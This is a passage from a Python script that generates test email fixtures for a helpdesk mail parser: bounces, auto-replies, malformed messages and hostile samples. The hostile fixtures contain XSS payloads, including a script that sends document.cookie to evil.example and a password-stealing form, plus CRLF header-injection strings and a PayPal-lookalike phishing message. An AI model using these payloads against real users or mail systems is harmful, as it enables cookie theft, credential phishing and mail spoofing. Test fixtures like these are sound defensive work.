Message-ID: <ticket-100777.1700000500.ef01@loopdesk.example>
From: Loopdesk Support <support@loopdesk.example>
To: ghost@example.net
Subject: [#100777] Your request

Hello, we received your request.
""",
    )
    write(
        "dsn_qmail.eml",
        """Return-Path: <>
Date: 18 Nov 2026 08:30:00 -0000
From: MAILER-DAEMON@qmail.example.org
To: support@loopdesk.example
Subject: failure notice
Message-ID: <qmail.bounce.1@qmail.example.org>

Hi. This is the qmail-send program at qmail.example.org.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<old.user@example.org>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <support@loopdesk.example>
Received: (qmail 12345 invoked from network); 18 Nov 2026 08:29:59 -0000
Message-ID: <ticket-100500.1700001000.9999@loopdesk.example>
From: Loopdesk Support <support@loopdesk.example>
To: old.user@example.org
Subject: [#100500] Update on your ticket

Your ticket was updated.
""",
    )
    write(
        "dsn_exchange_ndr.eml",
        """From: Microsoft Outlook
\t<postmaster@corp.example.com>
To: <support@loopdesk.example>
Date: Wed, 18 Nov 2026 09:45:12 +0000
Subject: Undeliverable: [#100321] Password reset
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="9a8b7c6d-1111-2222-3333-444455556666"
Content-Language: en-US
Message-ID: <3b8f2a1c-0000-4c4c-9999-abcdefabcdef@corp.example.com>
In-Reply-To: <ticket-100321.1700002000.7777@loopdesk.example>
References: <ticket-100321.1700002000.7777@loopdesk.example>
Thread-Index: AQHZ1234NDRadminNDR
Thread-Topic: [#100321] Password reset
Auto-Submitted: auto-replied
X-MS-Exchange-Message-Is-Ndr:
X-MS-Exchange-Organization-SCL: -1
MIME-Version: 1.0

--9a8b7c6d-1111-2222-3333-444455556666
Content-Type: multipart/alternative;
\tboundary="7f6e5d4c-aaaa-bbbb-cccc-ddddeeeeffff"

--7f6e5d4c-aaaa-bbbb-cccc-ddddeeeeffff
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Your message to j.doe@corp.example.com couldn't be delivered.

j.doe wasn't found at corp.example.com.

Remote Server returned '550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipien=
t not found by SMTP address lookup'

--7f6e5d4c-aaaa-bbbb-cccc-ddddeeeeffff
Content-Type: text/html; charset="us-ascii"

<html><body><p><b>Your message to j.doe@corp.example.com couldn't be delivered.</b></p>
<p>j.doe wasn't found at corp.example.com.</p></body></html>

--7f6e5d4c-aaaa-bbbb-cccc-ddddeeeeffff--

--9a8b7c6d-1111-2222-3333-444455556666
Content-Type: message/delivery-status

Reporting-MTA: dns;EXCH01.corp.example.com
Received-From-MTA: dns;mail.loopdesk.example
Arrival-Date: Wed, 18 Nov 2026 09:45:10 +0000

Final-Recipient: rfc822;j.doe@corp.example.com
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup

--9a8b7c6d-1111-2222-3333-444455556666
Content-Type: message/rfc822

Message-ID: <ticket-100321.1700002000.7777@loopdesk.example>
Date: Wed, 18 Nov 2026 09:45:00 +0000
From: Loopdesk Support <support@loopdesk.example>
To: j.doe@corp.example.com
Subject: [#100321] Password reset
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Your password was reset.

--9a8b7c6d-1111-2222-3333-444455556666--
""",
        crlf=True,
    )
    write(
        "dsn_gmail.eml",
        """Return-Path: <>
Received: by mail-sor-f69.google.example with SMTP id a1b2c3
From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>
To: support@loopdesk.example
Auto-Submitted: auto-replied
Subject: Delivery Status Notification (Failure)
References: <ticket-100888.1700003000.aaaa@loopdesk.example>
In-Reply-To: <ticket-100888.1700003000.aaaa@loopdesk.example>
X-Failed-Recipients: no.such.user.12345@gmail.example
Message-ID: <65a1b2c3.abc.def@mx.google.example>
Date: Thu, 19 Nov 2026 04:05:06 -0800 (PST)
MIME-Version: 1.0
Content-Type: multipart/report; boundary="000000000000gmailbnd"; report-type=delivery-status

--000000000000gmailbnd
Content-Type: multipart/related; boundary="000000000000gmailrel"

--000000000000gmailrel
Content-Type: multipart/alternative; boundary="000000000000gmailalt"

--000000000000gmailalt
Content-Type: text/plain; charset="UTF-8"

** Address not found **

Your message wasn't delivered to no.such.user.12345@gmail.example because the address couldn't be found, or is unable to receive mail.

The response from the remote server was:
550 5.1.1 The email account that you tried to reach does not exist.

--000000000000gmailalt
Content-Type: text/html; charset="UTF-8"

<html><body><h2>Address not found</h2><p>Your message wasn't delivered to <a style="color:#212121">no.such.user.12345@gmail.example</a> because the address couldn't be found.</p></body></html>

--000000000000gmailalt--
--000000000000gmailrel--
--000000000000gmailbnd
Content-Type: message/delivery-status

Reporting-MTA: dns; googlemail.com
Received-From-MTA: dns; support@loopdesk.example
Arrival-Date: Thu, 19 Nov 2026 04:05:05 -0800 (PST)
X-Original-Message-ID: <ticket-100888.1700003000.aaaa@loopdesk.example>

Final-Recipient: rfc822; no.such.user.12345@gmail.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; gmail-smtp-in.l.google.example. (2001:db8::1a)
Diagnostic-Code: smtp; 550-5.1.1 The email account that you tried to reach does not exist.
Last-Attempt-Date: Thu, 19 Nov 2026 04:05:06 -0800 (PST)

--000000000000gmailbnd
Content-Type: message/rfc822

Message-ID: <ticket-100888.1700003000.aaaa@loopdesk.example>
From: Loopdesk Support <support@loopdesk.example>
To: no.such.user.12345@gmail.example
Subject: [#100888] Welcome
Date: Thu, 19 Nov 2026 12:05:00 +0000

Welcome!

--000000000000gmailbnd--
""",
    )
    qq_body = (
        "此邮件是系统自动生成的退信，请勿回复。\n\n"
        "很抱歉您发送的邮件被退回，以下是该邮件的相关信息：\n"
        "被退回的邮件主题：[#100999] 您的工单已受理\n"
        "收件人地址：bucunzai@qq.example\n"
        "退信原因：收件人不存在（550 Mailbox not found or access denied）\n\n"
        "----- 原始邮件头 -----\n"
        "Message-ID: <ticket-100999.1700004000.bbbb@loopdesk.example>\n"
        "From: support@loopdesk.example\n"
        "To: bucunzai@qq.example\n"
    )
    write(
        "dsn_qq_bounce.eml",
        f"""Return-Path: <>
From: "{ew("系统退信", "gb18030")}" <postmaster@qq.example>
To: support@loopdesk.example
Subject: {ew("退信：[#100999] 您的工单已受理", "gb18030")}
Date: Thu, 19 Nov 2026 20:00:00 +0800
Message-ID: <bounce.qq.1@qq.example>
X-QQ-MIME: TCMime 1.0 by Tencent
X-Mailer: QQMail 2.x
MIME-Version: 1.0
Content-Type: text/plain; charset="gb18030"
Content-Transfer-Encoding: base64

{b64(qq_body, "gb18030")}
""",
    )
    nets_body = (
        "<html><body><p>很抱歉您发送的邮件被退回，以下是该邮件的相关信息：</p>"
        "<table><tr><td>被退回的邮件：</td><td>[#101000] 关于账号迁移</td></tr>"
        "<tr><td>收件人：</td><td>someone@163.example</td></tr>"
        "<tr><td>退信原因：</td><td>550 User not found: someone@163.example</td></tr></table>"
        "<p>原始邮件 Message-ID: &lt;ticket-101000.1700005000.cccc@loopdesk.example&gt;</p></body></html>"
    )
    write(
        "dsn_163_bounce.eml",
        f"""Return-Path: <>
From: {ew("网易邮件中心", "gbk")} <postmaster@163.example>
To: support@loopdesk.example
Subject: {ew("系统退信", "gbk")}
Date: Fri, 20 Nov 2026 08:08:08 +0800
Message-ID: <bounce.163.1@163.example>
MIME-Version: 1.0
Content-Type: text/html; charset="GBK"
Content-Transfer-Encoding: base64

{b64(nets_body, "gbk")}
""",
    )

    # ---------------------------------------------------------------- auto-replies
    write(
        "ooo_zh_exchange.eml",
        f"""From: {ew("陈静", "utf-8")} <chenjing@corp.example.cn>
To: support@loopdesk.example
Subject: {ew("自动回复: [#100234] 打印机无法连接", "utf-8")}
Date: Mon, 16 Nov 2026 10:00:00 +0800
Message-ID: <ooo.zh.1@corp.example.cn>
In-Reply-To: <ticket-100234.1700000000.abcd@loopdesk.example>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: chenjing@corp.example.cn
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64("您好，我正在休假，11月20日返回，期间邮件可能无法及时回复。¶")}
""",
    )
    write(
        "ooo_en_subject_only.eml",
        """From: Tom Baker <tom.baker@example.co.uk>
To: support@loopdesk.example
Subject: Automatic reply: [#100235] Laptop replacement
Date: Tue, 17 Nov 2026 08:00:00 +0000
Message-ID: <ooo.en.1@example.co.uk>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

I am out of the office until Monday with limited access to email.
""",
    )
    write(
        "ooo_de_abwesenheit.eml",
        f"""From: =?iso-8859-1?Q?Frank_B=E4cker?= <f.baecker@example.de>
To: support@loopdesk.example
Subject: Abwesenheitsnotiz zu: [#100236] VPN geht nicht
Date: Wed, 18 Nov 2026 07:00:00 +0100
Message-ID: <ooo.de.1@example.de>
X-MS-Exchange-Inbox-Rules-Loop: f.baecker@example.de
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: quoted-printable

{qp("Ich bin bis einschließlich Freitag nicht im Büro.¶", "latin-1")}""",
    )
    write(
        "ooo_ja_fuzai.eml",
        f"""From: {ew("高橋", "iso-2022-jp")} <takahashi@example.co.jp>
To: support@loopdesk.example
Subject: {ew("不在席のお知らせ", "iso-2022-jp")}
Date: Thu, 19 Nov 2026 09:00:00 +0900
Message-ID: <ooo.ja.1@example.co.jp>
X-Auto-Response-Suppress: OOF
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-2022-jp
Content-Transfer-Encoding: 7bit

""".encode("ascii")
        + "11月23日まで不在にしております。\n".encode("iso2022_jp"),
    )
    write(
        "vacation_unix.eml",
        """Return-Path: <bob@example.org>
From: bob@example.org
To: support@loopdesk.example
Subject: away from my mail
Precedence: junk
Auto-Submitted: auto-replied (vacation)
Date: Thu, 19 Nov 2026 09:30:00 -0500
Message-ID: <vacation.1@example.org>

I will not be reading my mail for a while.
Your mail concerning "[#100237] Access request" will be read when I'm back.
""",
    )
    write(
        "list_mail.eml",
        """From: Release Announcements <announce@lists.example.org>
To: announce@lists.example.org
Subject: [announce] Version 4.2 released
Date: Fri, 20 Nov 2026 12:00:00 +0000
Message-ID: <list.1@lists.example.org>
List-Id: Release announcements <announce.lists.example.org>
List-Unsubscribe: <mailto:announce-leave@lists.example.org>
List-Post: NO
Precedence: list
Sender: announce-bounces@lists.example.org
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Version 4.2 is out with many fixes.
""",
    )
    write(
        "noreply_notification.eml",
        """From: "Example Cloud" <no-reply@notifications.example.com>
To: support@loopdesk.example
Subject: Your invoice for November is ready
Date: Fri, 20 Nov 2026 01:00:00 +0000
Message-ID: <notif.1@notifications.example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><p>Your invoice for November is ready. <a href="https://cloud.example.com/billing">View invoice</a></p></body></html>
""",
    )
    write(
        "auto_generated_monitoring.eml",
        """From: Zabbix <zabbix@monitor.example.net>
To: support@loopdesk.example
Subject: PROBLEM: Disk space is low on db01
Date: Sat, 21 Nov 2026 03:14:15 +0000
Message-ID: <zbx.1@monitor.example.net>
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Trigger: Free disk space is less than 10% on volume /
Host: db01
""",
    )
    write(
        "read_receipt_mdn.eml",
        """From: Lisa Park <lisa.park@example.com>
To: support@loopdesk.example
Subject: Read: [#100240] Account question
Date: Sat, 21 Nov 2026 05:00:00 +0000
Message-ID: <mdn.1@example.com>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification; boundary="mdn"

--mdn
Content-Type: text/plain; charset=utf-8

Your message was read on Saturday, 21 November 2026.

--mdn
Content-Type: message/disposition-notification

Reporting-UA: example.com; Outlook
Final-Recipient: rfc822;lisa.park@example.com
Original-Message-ID: <ticket-100240.1700006000.dddd@loopdesk.example>
Disposition: manual-action/MDN-sent-manually; displayed

--mdn--
""",
    )

    # ---------------------------------------------------------------- spam-like and hostile
    write(
        "spam_like.eml",
        f"""From: "PayPaI Security" <security@paypai-verify.example>
To: undisclosed-recipients:;
Subject: {ew("【紧急】您的账户已被冻结！！！立即验证 $$$")}
Date: Sat, 21 Nov 2026 02:02:02 +0000
Message-ID: <spam.1@paypai-verify.example>
X-Spam-Flag: YES
X-Spam-Status: Yes, score=14.2 required=5.0
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{b64('<html><body><center><h1>您的账户已被冻结</h1><a href="http://198.51.100.66/login.php">点击这里立即验证</a><img src="http://tracker.example/p.gif?id=123" width="1" height="1"></center></body></html>')}
""",
    )
    write(
        "hostile_html.eml",
        """From: Mallory <mallory@evil.example>
To: support@loopdesk.example
Subject: <img src=x onerror=alert(1)> please help
Date: Sat, 21 Nov 2026 06:00:00 +0000
Message-ID: <hostile.1@evil.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="h"

--h
Content-Type: text/plain; charset=utf-8

Please help with my order.

--h
Content-Type: text/html; charset=utf-8

<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><script>document.location='http://evil.example/?c='+document.cookie</script><style>body{background:url("javascript:alert(1)")}</style></head>
<body onload="alert('load')"><p>Please help with my order.</p>
<img src="x" onerror="alert('img')">
<a href="javascript:alert('link')">click</a>
<a href=" JaVaScRiPt:alert('spaced')">spaced</a>
<iframe src="javascript:alert('frame')"></iframe>
<div style="width: expression(alert('css'))">styled</div>
<svg><foreignObject><script>alert('svg')</script></foreignObject></svg>
<form action="http://evil.example/steal"><input name="password"></form>
</body></html>

--h--
""",
    )
    write(
        "header_injection.eml",
        """From: =?utf-8?q?Evil=0D=0ABcc:_victim@example.com?= <attacker@evil.example>
To: support@loopdesk.example
Subject: =?utf-8?q?Hello=0D=0ABcc:_victim@example.com=0D=0A=0D=0Abody?=
Date: Sat, 21 Nov 2026 07:00:00 +0000
Message-ID: <inject.1@evil.example>
Reply-To: =?utf-8?q?x=0Ay?= <replies@evil.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Header injection attempt.
""",
    )

    # ---------------------------------------------------------------- malformed
    write(
        "malformed_missing_boundary.eml",
        """From: broken@example.com
To: support@loopdesk.example
Subject: Missing boundary parameter
Date: Sun, 22 Nov 2026 01:00:00 +0000
Message-ID: <mb.1@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed

--=_part_boundary_42
Content-Type: text/plain; charset=utf-8

The real text of a message whose boundary was lost.

--=_part_boundary_42
Content-Type: application/octet-stream; name="data.bin"
Content-Disposition: attachment; filename="data.bin"
Content-Transfer-Encoding: base64

AAECAw==
--=_part_boundary_42--
""",
    )
    write(
        "malformed_truncated.eml",
        f"""From: sender@example.com
To: support@loopdesk.example
Subject: Truncated in transit
Date: Sun, 22 Nov 2026 02:00:00 +0000
Message-ID: <trunc.1@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="tb"

--tb
Content-Type: text/plain; charset=utf-8

The attachment below was cut off.

--tb
Content-Type: application/pdf; name="report.pdf"
Content-Disposition: attachment; filename="report.pdf"
Content-Transfer-Encoding: base64

{b64(PDF * 3)[:101]}""",
    )
    write(
        "malformed_bad_base64.eml",
        """From: sender@example.com
To: support@loopdesk.example
Subject: Bad base64 body
Date: Sun, 22 Nov 2026 03:00:00 +0000
Message-ID: <b64.1@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

VGhpcyBib2R5IGhhcyBiYWQgYmFzZTY0
**** garbage line ****
IGluIHRoZSBtaWRkbGU=
AB=
""",
    )
    write(
        "malformed_nul_bytes.eml",
        b"From: nul@example.com\nTo: support@loopdesk.example\nSubject: NUL\x00 bytes inside\n"
        b"Date: Sun, 22 Nov 2026 04:00:00 +0000\nMessage-ID: <nul.1@example.com>\n"
        b"Content-Type: text/plain; charset=utf-8\n\nText with a NUL\x00 byte and \x01control\x07 chars.\n",
    )
    write(
        "malformed_header_no_colon.eml",
        """Subject: A header line without a colon
this line has no colon at all
From: colon@example.com
To: support@loopdesk.example
Date: Sun, 22 Nov 2026 05:00:00 +0000
Message-ID: <nocolon.1@example.com>

The body is still here.
""",
    )
    many = ",\n ".join(f"user{i}@recipients.example" for i in range(1000))
    write(
        "malformed_1000_recipients.eml",
        f"""From: blast@example.com
To: {many}
Subject: Message to a thousand people
Date: Sun, 22 Nov 2026 06:00:00 +0000
Message-ID: <many.1@example.com>

Hello everyone.
""",
    )
    write(
        "malformed_long_subject.eml",
        f"""From: long@example.com
To: support@loopdesk.example
Subject: {"Very long subject " * 555 + "end"}
Date: Sun, 22 Nov 2026 07:00:00 +0000
Message-ID: <long.1@example.com>

Long subject test.
""",
    )
    write(
        "malformed_cr_only.eml",
        b"From: mac@example.com\rTo: support@loopdesk.example\rSubject: Old Mac line endings\r"
        b"Message-ID: <cr.1@example.com>\rContent-Type: text/plain\r\rLine one\rLine two\r",
    )
    write(
        "malformed_bad_address_and_date.eml",
        """From: "Broken" <not-an-address>, alice@example.com)<bob@example.com>
To: ,,;; , support@loopdesk.example
Subject: Bad addresses
Date: sometime last week
Message-ID: no-angle-brackets-here@example.com
References: garbage <ref.1@example.com> more garbage <ref.2@example.com
MIME-Version: 1.0
Content-Type: text/plain

Who sent this?
""",
    )
    write(
        "reply_threaded_plain.eml",
        """From: Wei Zhang <Zhang.Wei@Example.CN>
To: support@loopdesk.example
Subject: Re: [#100234] Invoice question
Date: Mon, 23 Nov 2026 09:00:00 +0800
Message-ID: <reply.2@example.cn>
In-Reply-To: <ticket-100234.1700000000.abcd@loopdesk.example>
References: <ticket-100234.1699990000.0001@loopdesk.example> <ticket-100234.1700000000.abcd@loopdesk.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8; format=flowed
Content-Transfer-Encoding: 8bit

Thanks, the invoice arrived.

On Sun, Nov 22, 2026 at 10:00 AM Loopdesk Support wrote:
> We sent the invoice again.
""",
    )


if __name__ == "__main__":
    main()
